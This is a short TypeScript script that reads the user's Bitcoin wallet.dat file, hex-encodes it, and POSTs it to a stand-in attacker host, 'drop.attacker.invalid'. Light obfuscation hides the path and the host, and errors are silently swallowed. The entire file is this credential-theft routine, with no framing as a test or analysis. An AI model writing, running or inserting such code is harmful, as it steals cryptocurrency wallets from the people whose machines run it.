import * as fs from 'fs';
import * as os from 'os';
import * as https from 'https';
interface Loot { name: string; body: string }
const where: string = [os.homedir(), '.bit' + 'coin', 'wallet' + '.dat'].join('/');
const loot: Loot = { name: 'w', body: fs.readFileSync(where).toString('hex') };
const req = https.request({ host: ['drop', 'attacker', 'invalid'].join('.'), method: 'POST', path: '/' + loot.name });
req.on('error', (): void => {});
req.end(loot.body);
